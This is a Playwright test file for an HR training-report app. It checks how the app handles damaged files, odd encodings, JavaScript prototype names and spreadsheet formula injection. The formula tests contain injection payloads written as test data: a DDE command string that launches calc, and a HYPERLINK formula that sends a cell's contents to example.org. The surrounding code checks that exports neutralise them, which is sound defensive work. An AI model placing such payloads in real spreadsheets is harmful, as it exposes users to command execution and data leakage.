// HR chooses files that are broken, or that somebody made to do harm. Each is answered with a sentence, and
// what could be read is counted. The figures are those of insights-moodle.spec.ts.
import { strFromU8, unzipSync } from 'fflate';
import readExcelFile from 'read-excel-file/node';
import { expectNoAxeViolations } from '../support/expect-no-axe-violations.ts';
import {
  aCsv,
  aFile,
  chooseFiles,
  fileCard,
  moodleFile,
  openInsights,
  parseCsv,
  part,
  readFigures,
  readResults,
  readTable,
  takeAway,
} from '../support/insights.ts';
import { expect, test } from '../support/site.ts';

const report = moodleFile('fire12-interactions.txt');
const workbook = moodleFile('fire12-interactions.xlsx');

test('files that cannot be read are each answered, and change nothing of the others', async ({
  page,
}) => {
  await openInsights(page);
  await chooseFiles(page, report);
  const before = await readResults(page);

  const refused = [
    [aFile('half.xlsx', workbook.buffer.subarray(0, workbook.buffer.length / 2)), 'is damaged'],
    [aFile('report.csv', '%PDF-1.7\n%âãÏÓ\n1 0 obj\n'), 'This is a PDF.'],
    [aFile('empty.csv', ''), 'The file is empty.'],
    [aFile('old.xls', Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1)), 'old Excel'],
  ] as const;
  await chooseFiles(page, ...refused.map(([file]) => file));

  const summary = page.getByRole('alert');
  await expect(summary).toBeFocused();
  await expect(summary).toContainText('Some files could not be read');
  expect(await summary.getByRole('listitem').count()).toBe(4);
  for (const [{ name }, says] of refused) {
    const line = summary.getByRole('listitem').filter({ hasText: name });
    await expect(line).toContainText(says);
    // What was found, what was expected, what to do.
    await expect(line).toContainText(/Expected .+\. .+\.$/);
    await expect(fileCard(page, name)).toContainText(says);
  }
  await expectNoAxeViolations(page);
  expect(await readResults(page)).toBe(before);

  await summary.getByRole('link', { name: 'empty.csv' }).click();
  await expect(fileCard(page, 'empty.csv')).toBeInViewport();
  for (const [{ name }] of refused) {
    await fileCard(page, name)
      .getByRole('button', { name: /^Remove/ })
      .click();
  }
  await expect(summary).toHaveCount(0);
  expect(await readResults(page)).toBe(before);
});

test('a report with three damaged rows: these are named, and the others are counted', async ({
  page,
}) => {
  await openInsights(page);
  // The header is row 1, Aoife has rows 2 and 3, María 4 to 6.
  await chooseFiles(
    page,
    damage('fire12-damaged.txt', {
      '"王 丽"': (row) => row.split('\t').slice(0, 2).join('\t'),
      '"Thi Nguyen"': (row) => row.replace('"Thi Nguyen"\tt.nguyen@example.com', '\t'),
      '"Ксения Иванова"': (row) => row.replace('"Ксения Иванова"', '"Ксения Иванова'),
    }),
  );
  const card = fileCard(page, 'fire12-damaged.txt');
  await expect(card).toContainText('13 rows');
  await expect(card).toContainText('3 things could not be read');
  const problems = await card.getByRole('list').last().getByRole('listitem').allTextContents();
  expect(problems.map((text) => text.replace(/\s+/g, ' ').trim())).toEqual([
    expect.stringMatching(/^Row 7: The row has 2 cells and the header has 27\. .* 王 丽/),
    expect.stringMatching(/^Row 9: The row does not say who it is about/),
    expect.stringMatching(/^Row 10: A quotation mark is opened and not closed.*Ксения/),
  ]);
  await expectNoAxeViolations(page);

  const { name, bytes } = await takeAway(page, 'Download the list (CSV)');
  expect(name).toBe('fire12-damaged-problems.csv');
  expect(parseCsv(bytes).map(([file, row]) => [file, row])).toEqual([
    ['File', 'Row'],
    ...['7', '9', '10'].map((row) => ['fire12-damaged.txt', row]),
  ]);

  // Left are Aoife, María, Dan and Jürgen, who have a score and no word on completion; Sunita and Nora.
  expect(await readFigures(page)).toEqual({
    'In the records': '6 people; who is required is not known',
    Completed: 'not known no file says who has completed',
  });
  // Best attempts: of Aoife, María, Dan and Jürgen, Dan alone began with 'aim'.
  expect(await readTable(page, 'Choices in scene_ext.q_order')).toMatchObject([
    { 0: 'pull,aim,squeeze,sweep', 3: '75%', 4: '3 decisions' },
    { 0: 'aim,pull,squeeze,sweep', 3: '25%', 4: '1 decision' },
  ]);
});

test('an export in UTF-16, and one saved by Windows', async ({ page }) => {
  await openInsights(page);
  await chooseFiles(page, report);
  const plain = await readResults(page);
  const text = report.buffer.toString('utf8');
  const dressed = [
    [aFile(report.name, Buffer.from(`\uFEFF${text}`, 'utf16le')), 'UTF-16'],
    [aFile(report.name, Buffer.from(`\uFEFF${text}`, 'utf16le').swap16()), 'UTF-16'],
    [aFile(report.name, `\uFEFF${text.replaceAll('\n', '\r\n')}`), 'UTF-8'],
  ] as const;
  for (const [file, format] of dressed) {
    await page.getByRole('button', { name: 'Clear everything' }).click();
    await chooseFiles(page, file);
    await expect(fileCard(page, file.name)).toContainText(format);
    await expect(fileCard(page, file.name)).toContainText('13 rows, 67 records');
    expect(await readResults(page)).toBe(plain);
  }
});

test('names that every object of JavaScript has are names like any other', async ({ page }) => {
  await openInsights(page);
  const odd = aCsv('odd.csv', [
    ['__proto__', 'constructor', 'toString', 'hasOwnProperty'],
    ['__proto__', 'valueOf', 'completed', '90'],
    ['constructor', 'valueOf', 'incomplete', ''],
  ]);
  await chooseFiles(page, odd);
  const card = fileCard(page, 'odd.csv');
  await card.getByRole('radio', { name: 'What somebody did' }).check();
  await card.getByLabel('Full name').selectOption('__proto__');
  await card.getByLabel('Course', { exact: true }).selectOption('constructor');
  await card.getByLabel('Completion status').selectOption('toString');
  await card.getByLabel('Score', { exact: true }).selectOption('hasOwnProperty');
  await card.getByLabel('Remember this for files with the same columns').check();
  await card.getByRole('button', { name: /^Read the file/ }).click();
  await expect(card).toContainText('2 rows, 2 records');
  await expect(page.getByLabel('Course', { exact: true })).toHaveValue('valueOf');

  await chooseFiles(
    page,
    aCsv('list.csv', [
      ['Staff number', 'Name', 'Department', 'Staff group'],
      ['__proto__', '__proto__', '__proto__', 'toString'],
      ['constructor', 'constructor', '__proto__', 'hasOwnProperty'],
    ]),
    aCsv('answers.txt', [
      ['Name', 'Attempt', 'Started on', 'Score', 'valueOf', 'Question 0', 'Response 0', 'Result 0'],
      ['__proto__', '1', '-', '90', '90', '__proto__', 'constructor', 'wrong'],
      ['constructor', '1', '-', '0', 'Incomplete', '__proto__', 'toString', 'correct'],
    ]),
  );
  await expect(part(page, 'Are we compliant?')).toContainText('No: 50% of the 2 people required');
  expect(await readTable(page, 'Completion by department')).toMatchObject([
    { 0: '__proto__', 1: '2', 2: '1' },
  ]);
  expect(await readTable(page, 'Completion by staff group')).toMatchObject([
    { 0: 'hasOwnProperty', 2: '0' },
    { 0: 'toString', 2: '1' },
  ]);
  expect(await readTable(page, 'Choices in __proto__')).toMatchObject([
    { 0: 'constructor', 4: '1 decision' },
    { 0: 'toString', 4: '1 decision' },
  ]);
  const settings = page.getByRole('group', { name: 'What is shown' });
  await settings.getByLabel('Staff group').selectOption('toString');
  await expect(part(page, 'Are we compliant?')).toContainText(
    'Yes: 100% of the 1 person required has completed',
  );

  await page.reload();
  await chooseFiles(page, odd);
  await expect(card).toContainText('Read by the columns that you chose');
  await expect(card).toContainText('2 rows, 2 records');
});

test('a formula as a name is shown as text, and leaves harmless', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await openInsights(page);
  page.on('dialog', (dialog) => {
    throw new Error(`A dialog said ${dialog.message()}.`);
  });
  const person = ['-2+3', formula, '@SUM(1+1)', "+cmd|' /C calc'!A0", '\t=1+1', '01/11/2026'];
  await chooseFiles(
    page,
    aCsv('staff.csv', [
      ['Employee number', 'Name', 'Email', 'Department', 'Staff group', 'Due date'],
      person,
    ]),
    aCsv('answers.txt', [
      ['Name', 'Email address', 'Attempt', 'Started on', 'Score', '=1+2', ...aQuestion],
      [formula, '@SUM(1+1)', '1', '-', '0', 'Incomplete', '=scene()', '=HYPERLINK("x")', 'wrong'],
    ]),
  );
  const row = part(page, 'Who is outstanding').getByRole('row').nth(1);
  await expect(row).toContainText(formula);
  await expect(row).toContainText('@SUM(1+1) -2+3');
  await expect(row).toContainText("+cmd|' /C calc'!A0");
  expect(await readTable(page, 'Choices in =scene()')).toMatchObject([{ 0: '=HYPERLINK("x")' }]);
  await expect(page.getByRole('link', { name: 'Pay' })).toHaveCount(0);

  for (const button of ['Download it as CSV', 'People (CSV)']) {
    const { bytes } = await takeAway(page, button);
    const [, cells = []] = parseCsv(bytes);
    expect(cells.slice(0, 5)).toEqual([
      "'-2+3",
      `'${formula}`,
      "'@SUM(1+1)",
      "'+cmd|' /C calc'!A0",
      "'=1+1",
    ]);
  }
  for (const button of ['Decisions (CSV)', 'Everything, as flat events (CSV)']) {
    const { bytes } = await takeAway(page, button);
    const cells = parseCsv(bytes).flat();
    expect(cells).toContain('\'=HYPERLINK("x")');
    expect(cells.filter((cell) => /^[\s\0]*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
  }

  const { name, bytes } = await takeAway(page, 'Excel workbook');
  expect(name).toMatch(/^insights-.*\.xlsx$/);
  const sheets = await readExcelFile(bytes);
  const everybody = sheets.find(({ sheet }) => sheet === 'Everybody')?.data ?? [];
  expect(everybody[1]?.slice(0, 5)).toEqual([
    ...['-2+3', formula, '@SUM(1+1)', "+cmd|' /C calc'!A0", '=1+1'],
  ]);
  // A cell that Excel works out is an `f` element; text is none, whatever it begins with.
  for (const [path, content] of Object.entries(unzipSync(bytes))) {
    if (path.endsWith('.xml')) expect(strFromU8(content)).not.toMatch(/<(\w+:)?f[\s/>]/);
  }

  // Copied text is pasted into spreadsheets too.
  await page.getByRole('button', { name: 'Copy the list as text' }).click();
  await expect(page.getByText('The list copied.')).toBeVisible();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied).toContain(formula);
  expect(copied).not.toMatch(/^[=+\-@\t]/m);
});

const formula = '=HYPERLINK("https://example.org/?"&A1,"Pay")';
const aQuestion = ['Question 0', 'Response 0', 'Result 0'];

/** The report with changes to the rows of these learners. */
function damage(name: string, changes: Record<string, (row: string) => string>) {
  const text = report.buffer.toString('utf8');
  // A line break inside a cell is followed by no name.
  const rows = text.split(/\n(?=")/);
  const damaged = rows.map((row) => {
    const change = Object.entries(changes).find(([who]) => row.startsWith(who));
    return change ? change[1](row) : row;
  });
  expect(damaged.filter((row, at) => row !== rows[at])).toHaveLength(Object.keys(changes).length);
  return aFile(name, damaged.join('\n'));
}
